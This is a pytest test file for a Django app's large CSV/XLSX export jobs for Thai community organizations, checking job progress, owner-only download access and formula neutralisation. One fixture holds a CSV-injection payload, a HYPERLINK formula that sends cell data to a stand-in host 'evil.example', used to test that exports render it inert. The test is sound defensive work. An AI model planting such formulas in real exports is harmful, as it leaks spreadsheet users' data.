"""Large exports are jobs: a progress page, then a file only the user who asked may download.
Small exports stay inline (tests/councils/test_exports.py)."""

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings as django_settings
from django.utils import timezone

from common.jobs.choices import JobStatus
from councils.models import ExportJob
from councils.services import exports as services

from ..factories import CommunityOrganizationFactory
from . import import_corpus as corpus

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
URL = "/councils/exports/organizations.csv"


@pytest.fixture
def organizations(world):
    """Two organizations in Chiang Mai (one with a formula for a name), one in Chiang Rai."""
    CommunityOrganizationFactory(council=world.council_x, code="CO1", name=HYPERLINK, founded_on=dt.date(1997, 3, 15))
    CommunityOrganizationFactory(council=world.council_z, code="CO2", name="-ลบ")
    CommunityOrganizationFactory(council=world.council_w, code="CO3", name="เชียงราย")


@pytest.fixture
def small_threshold(settings):
    settings.EXPORT_INLINE_MAX_ROWS = 1


def _csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _inline(client, user, url=URL) -> bytes:
    client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200 and response.has_header("Content-Disposition")
    return b"".join(response.streaming_content)


def _ask(client, user, django_capture_on_commit_callbacks, url=URL):
    client.force_login(user)
    with django_capture_on_commit_callbacks(execute=True):  # Celery is eager in tests
        response = client.post(url)
    job = ExportJob.objects.order_by("-pk").first()
    return response, job


def test_a_small_export_stays_inline(organizations, codi_regional, client, settings):
    settings.EXPORT_INLINE_MAX_ROWS = 2  # the regional export holds exactly two rows
    rows = _csv_rows(_inline(client, codi_regional))
    assert [row[0] for row in rows[1:]] == ["CO1", "CO2"]
    assert ExportJob.objects.count() == 0


def test_a_large_export_goes_to_a_job(organizations, codi_regional, client, small_threshold,
                                      django_capture_on_commit_callbacks):
    client.force_login(codi_regional)
    page = client.get(URL)
    assert page.status_code == 200 and not page.has_header("Content-Disposition")
    assert page.templates[0].name == "councils/export_large.html"
    assert "ไฟล์นี้มี 2 แถว" in page.content.decode()
    assert ExportJob.objects.count() == 0, "a GET never starts a job"

    response, job = _ask(client, codi_regional, django_capture_on_commit_callbacks)
    assert response.status_code == 302 and response["Location"] == f"/councils/exports/jobs/{job.pk}/"
    job.refresh_from_db()
    assert (job.requested_by, job.kind, job.file_format) == (codi_regional, "organizations", "csv")
    assert (job.status, job.progress, job.attempts, job.total_rows, job.processed_rows, job.error) == (
        JobStatus.DONE, 100, 1, 2, 2, ""
    )
    assert job.file.name == f"exports/{timezone.localdate():%Y/%m}/export-{job.pk}.csv"
    assert (Path(django_settings.MEDIA_ROOT) / job.file.name).is_file()
    page = client.get(response["Location"]).content.decode()
    assert "ไฟล์พร้อมดาวน์โหลด" in page and f'href="/councils/exports/jobs/{job.pk}/download/"' in page
    assert "js/job-progress.js" in page


def test_the_jobs_file_holds_exactly_the_inline_export(organizations, codi_regional, client, settings,
                                                       django_capture_on_commit_callbacks):
    inline = _inline(client, codi_regional)
    settings.EXPORT_INLINE_MAX_ROWS = 0
    _response, job = _ask(client, codi_regional, django_capture_on_commit_callbacks)
    download = client.get(f"/councils/exports/jobs/{job.pk}/download/")
    assert download.status_code == 200
    assert download["Content-Type"] == "text/csv; charset=utf-8"
    assert download["Content-Disposition"] == f'attachment; filename="organizations-{timezone.localdate(job.finished_at):%Y%m%d}.csv"'
    data = b"".join(download.streaming_content)
    assert data == inline  # same selector, same user, same neutralised cells, byte for byte
    rows = _csv_rows(data)
    assert rows[0] == corpus.ORG_HEADERS
    assert [row[:2] for row in rows[1:]] == [["CO1", "'" + HYPERLINK], ["CO2", "'-ลบ"]]


def test_an_xlsx_export_job_is_neutralised_and_scoped(world, organizations, staff_x, client, small_threshold,
                                                      django_capture_on_commit_callbacks):
    CommunityOrganizationFactory(council=world.council_x, code="CO4", name="กลุ่มสตรีบ้านหลวง")
    _response, job = _ask(client, staff_x, django_capture_on_commit_callbacks, url="/councils/exports/organizations.xlsx")
    download = client.get(f"/councils/exports/jobs/{job.pk}/download/")
    assert download["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content))).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == tuple(corpus.ORG_HEADERS)
    assert [row[:2] for row in values[1:]] == [("CO1", HYPERLINK), ("CO4", "กลุ่มสตรีบ้านหลวง")]
    assert sheet["B2"].data_type == "s" and sheet["B2"].quotePrefix  # text, never a formula, no apostrophe
    founded = corpus.ORG_HEADERS.index("วันที่ก่อตั้ง (พ.ศ.)")
    assert values[1][founded] == dt.datetime(1997, 3, 15) and sheet.cell(2, founded + 1).is_date


def test_the_status_endpoint(organizations, codi_regional, client, small_threshold, django_capture_on_commit_callbacks):
    client.force_login(codi_regional)
    with django_capture_on_commit_callbacks(execute=False):  # the job is not run yet
        client.post(URL)
    job = ExportJob.objects.get()
    status_url = f"/councils/exports/jobs/{job.pk}/status/"
    assert client.get(status_url).json() == {
        "id": job.pk, "status": "queued", "status_display": "รอคิว", "running": True, "finished": False,
        "progress": 0, "progress_text": "", "error": "", "detail_url": f"/councils/exports/jobs/{job.pk}/",
        "download_url": None, "kind": "organizations", "format": "csv", "processed_rows": 0, "total_rows": 0,
    }
    services.export_job_run(job_id=job.pk)  # what the worker runs
    assert client.get(status_url).json() == {
        "id": job.pk, "status": "done", "status_display": "ไฟล์พร้อมดาวน์โหลด", "running": False, "finished": True,
        "progress": 100, "progress_text": "2 จาก 2 แถว", "error": "", "detail_url": f"/councils/exports/jobs/{job.pk}/",
        "download_url": f"/councils/exports/jobs/{job.pk}/download/", "kind": "organizations", "format": "csv",
        "processed_rows": 2, "total_rows": 2,
    }


def test_asking_again_while_the_job_runs_joins_it(organizations, codi_regional, client, small_threshold,
                                                  django_capture_on_commit_callbacks):
    client.force_login(codi_regional)
    with django_capture_on_commit_callbacks(execute=False):
        first = client.post(URL)
        again = client.post(URL)
        other_format = client.post("/councils/exports/organizations.xlsx")
    assert first["Location"] == again["Location"] != other_format["Location"]
    assert ExportJob.objects.count() == 2


@pytest.mark.parametrize("persona", ["codi_staff", "staff_x", "plain_user"])
def test_another_user_gets_404_for_the_job_its_status_and_its_file(
    persona, request, organizations, codi_regional, client, small_threshold, django_capture_on_commit_callbacks
):
    _response, job = _ask(client, codi_regional, django_capture_on_commit_callbacks)
    base = f"/councils/exports/jobs/{job.pk}/"
    assert client.get(f"{base}download/").status_code == 200  # the owner
    client.force_login(request.getfixturevalue(persona))  # even national CODI staff
    for path in (base, f"{base}status/", f"{base}download/"):
        assert client.get(path).status_code == 404, path


def test_an_administrator_gets_404_too(organizations, codi_regional, client, small_threshold,
                                       django_capture_on_commit_callbacks, admin_user):
    _response, job = _ask(client, codi_regional, django_capture_on_commit_callbacks)
    client.force_login(admin_user)
    assert client.get(f"/councils/exports/jobs/{job.pk}/download/").status_code == 404


def test_anonymous_visitors_are_sent_to_log_in(organizations, codi_regional, client, small_threshold,
                                               django_capture_on_commit_callbacks):
    _response, job = _ask(client, codi_regional, django_capture_on_commit_callbacks)
    client.logout()
    for path in (f"/councils/exports/jobs/{job.pk}/download/", f"/councils/exports/jobs/{job.pk}/status/"):
        response = client.get(path)
        assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
    assert client.post(URL).status_code == 302 and ExportJob.objects.count() == 1


def test_an_unfinished_jobs_file_is_not_served(organizations, codi_regional, client, small_threshold,
                                              django_capture_on_commit_callbacks):
    client.force_login(codi_regional)
    with django_capture_on_commit_callbacks(execute=False):
        client.post(URL)
    job = ExportJob.objects.get()
    assert client.get(f"/councils/exports/jobs/{job.pk}/download/").status_code == 404
    assert client.post("/councils/exports/people.csv").status_code == 404


def test_a_job_whose_user_is_gone_fails(organizations, codi_regional, small_threshold):
    job = services.export_job_create(by=codi_regional, kind="organizations", fmt="csv")
    codi_regional.is_active = False
    codi_regional.save()
    from councils.tasks import run_export

    run_export.apply(args=[job.pk])
    job.refresh_from_db()
    assert job.status == JobStatus.FAILED and f"งานส่งออก #{job.pk}" in job.error
    assert not job.file
